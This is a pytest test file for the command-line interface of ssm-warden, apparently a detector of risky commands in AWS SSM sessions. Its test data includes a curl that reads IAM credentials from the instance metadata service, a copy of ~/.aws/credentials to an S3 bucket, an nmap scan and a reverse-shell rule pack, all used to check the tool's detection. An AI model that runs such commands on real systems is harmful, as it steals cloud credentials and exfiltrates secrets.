"""The command line's promises: exit codes, no tracebacks, one output option, help a person can read."""

from __future__ import annotations

import argparse
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

import ssm_warden
from ssm_warden.cli import build_parser, main

ROOT = Path(__file__).resolve().parents[3]


def _run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    try:
        code = main(list(args))
    except SystemExit as exc:
        code = int(exc.code or 0)
    out, err = capsys.readouterr()
    assert "Traceback" not in err
    return code, out, err


def _subparsers(parser: argparse.ArgumentParser) -> list[argparse.ArgumentParser]:
    found = [parser]
    for action in parser._actions:
        if isinstance(action, argparse._SubParsersAction):
            for child in action.choices.values():
                found.extend(_subparsers(child))
    return found


def test_version_prints_the_cli_version(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = _run(capsys, "--version")
    assert code == 0 and out.splitlines()[0] == f"ssm-warden {ssm_warden.__version__}"


def test_versions_agree() -> None:
    # The package, the project metadata, the SAR metadata and the stack output say the same version
    pyproject = (ROOT / "pyproject.toml").read_text()
    assert f'version = "{ssm_warden.__version__}"' in pyproject
    template = (ROOT / "template.yaml").read_text()
    assert f"SemanticVersion: {ssm_warden.__version__}" in template
    assert f"## [{ssm_warden.__version__}]" in (ROOT / "CHANGELOG.md").read_text()


def test_help_has_no_restructuredtext(capsys: pytest.CaptureFixture[str]) -> None:
    for parser in _subparsers(build_parser()):
        text = parser.format_help()
        assert "``" not in text, parser.prog


def test_every_aws_command_takes_region_profile_and_format() -> None:
    reads_aws = {
        "audit",
        "preflight",
        "version",
        "sessions",
        "status",
        "replay",
        "extend",
        "exempt",
        "redrive",
        "slack test",
        "policy pull",
        "policy diff",
        "policy push",
        "policy simulate",
    }
    # policy pull prints YAML and policy diff a unified diff: no second format to choose
    no_format = {"policy pull", "policy diff", "policy push"}
    seen = set()
    for parser in _subparsers(build_parser()):
        name = parser.prog.removeprefix("ssm-warden ")
        if name in reads_aws:
            seen.add(name)
            options = {o for a in parser._actions for o in a.option_strings}
            assert {"--region", "--profile"} <= options, name
            assert name in no_format or "--format" in options, name
    assert seen == reads_aws


def test_bad_usage_exits_2(capsys: pytest.CaptureFixture[str]) -> None:
    assert _run(capsys, "rules", "list", "--pack", "nope")[0] == 2
    assert _run(capsys, "no-such-command")[0] == 2
    assert _run(capsys, "classify", "--tag", "novalue")[0] == 2
    assert _run(capsys, "classify", "/no/such/file")[0] == 2
    assert _run(capsys, "scan", "/no/such/file")[0] == 2


def test_unknown_rule_pack_is_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = _run(capsys, "rules", "list", "--pack", "nope")
    assert code == 2 and err.startswith("ssm-warden rules: unknown rule pack 'nope'")


def test_a_bad_pack_in_a_policy_is_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # Given a policy naming a rule pack that does not exist
    policy = yaml.safe_load((ROOT / "policies" / "default.yaml").read_text())
    policy.setdefault("defaults", {})["rule_packs"] = ["nope"]
    path = tmp_path / "policy.yaml"
    path.write_text(yaml.safe_dump(policy))
    monkeypatch.setattr("sys.stdin", io.StringIO('{"command": "id"}\n'))
    # Then classify and scan say so in one line and exit 2
    code, _, err = _run(capsys, "classify", "--policy", str(path))
    assert code == 2 and "nope" in err
    transcript = tmp_path / "s-1.log"
    transcript.write_text("$ id\nuid=0(root)\n")
    code, _, err = _run(capsys, "scan", "--policy", str(path), str(transcript))
    assert code == 2 and "nope" in err


def test_rules_list_into_a_closed_pipe_is_quiet() -> None:
    # Given `ssm-warden rules list | head -1`
    proc = subprocess.run(
        f"{sys.executable} -m ssm_warden.cli rules list | head -1",
        shell=True,
        capture_output=True,
        text=True,
        cwd=ROOT,
        check=False,
    )
    # Then one rule is printed and nothing complains
    assert len(proc.stdout.splitlines()) == 1
    assert proc.stderr == ""


def test_rules_list_as_json(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = _run(capsys, "rules", "list", "--pack", "reverse-shell", "--format", "json")
    rows = [json.loads(line) for line in out.splitlines()]
    assert code == 0 and rows and {"id", "pack", "severity", "category", "title"} == set(rows[0])


@pytest.mark.parametrize(
    ("fail_on", "command", "code"),
    [
        (None, "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web", 0),
        ("terminate", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web", 1),
        ("critical", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web", 1),
        ("terminate", "nmap -sS 10.0.0.1", 0),
        ("alert", "nmap -sS 10.0.0.1", 1),
        ("low", "nmap -sS 10.0.0.1", 1),
        ("medium", "nmap -sS 10.0.0.1", 0),
        ("low", "uptime", 0),
    ],
)
def test_classify_fail_on(
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    fail_on: str | None,
    command: str,
    code: int,
) -> None:
    monkeypatch.setattr("sys.stdin", io.StringIO(command + "\n"))
    args = ["classify", "--plain", *(["--fail-on", fail_on] if fail_on else [])]
    assert _run(capsys, *args)[0] == code


def test_classify_text_format(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setattr("sys.stdin", io.StringIO("uptime\n"))
    code, out, _ = _run(capsys, "classify", "--plain", "--format", "text")
    assert code == 0 and out.split() == ["allow", "-", "uptime"]


def test_classify_reads_the_accounts_own_network_from_the_policy(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    policy = tmp_path / "p.yaml"
    policy.write_text("version: 1\ndefaults:\n  own_network: {buckets: [acme-backups]}\n")
    command = "aws s3 cp ~/.aws/credentials s3://{}/c"

    def rules(*args: str, bucket: str) -> set[str]:
        monkeypatch.setattr("sys.stdin", io.StringIO(command.format(bucket) + "\n"))
        code, out, _ = _run(capsys, "classify", "--plain", *args)
        assert code == 0
        return {f["rule"] for f in json.loads(out)["findings"]}

    assert "sensitive-data-to-unknown-destination" in rules(bucket="acme-backups")  # no policy: unknown
    assert "sensitive-data-to-unknown-destination" not in rules(
        "--policy", str(policy), bucket="acme-backups"
    )
    assert "sensitive-data-to-unknown-destination" in rules("--policy", str(policy), bucket="elsewhere")


def test_scan_fail_on(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    transcript = tmp_path / "alice-0123456789abcdef0.log"
    transcript.write_text(
        "sh-4.2$ curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web\n{}\nsh-4.2$ exit\n"
    )
    assert _run(capsys, "scan", str(transcript))[0] == 0
    assert _run(capsys, "scan", "--fail-on", "terminate", str(transcript))[0] == 1
    code, out, _ = _run(capsys, "scan", "--format", "json", str(transcript))
    assert code == 0 and json.loads(out)["session_id"] == "alice-0123456789abcdef0"


def test_aws_commands_without_credentials_say_so(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Given no credentials anywhere
    for key in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"):
        monkeypatch.delenv(key, raising=False)
    monkeypatch.setenv("AWS_SHARED_CREDENTIALS_FILE", str(tmp_path / "none"))
    monkeypatch.setenv("AWS_CONFIG_FILE", str(tmp_path / "none"))
    monkeypatch.setenv("AWS_EC2_METADATA_DISABLED", "true")
    for args in (["audit", "s-1"], ["preflight"]):
        code, _, err = _run(capsys, *args)
        assert code == 2 and "no AWS credentials" in err, args


def test_an_unknown_profile_is_one_line(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("AWS_CONFIG_FILE", str(tmp_path / "none"))
    code, _, err = _run(capsys, "audit", "s-1", "--profile", "nope")
    assert code == 2 and "nope" in err


def test_no_region_is_one_line(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for key in ("AWS_REGION", "AWS_DEFAULT_REGION"):
        monkeypatch.delenv(key, raising=False)
    monkeypatch.setenv("AWS_CONFIG_FILE", str(tmp_path / "none"))
    code, _, err = _run(capsys, "audit", "s-1")
    assert code == 2 and "no AWS region" in err
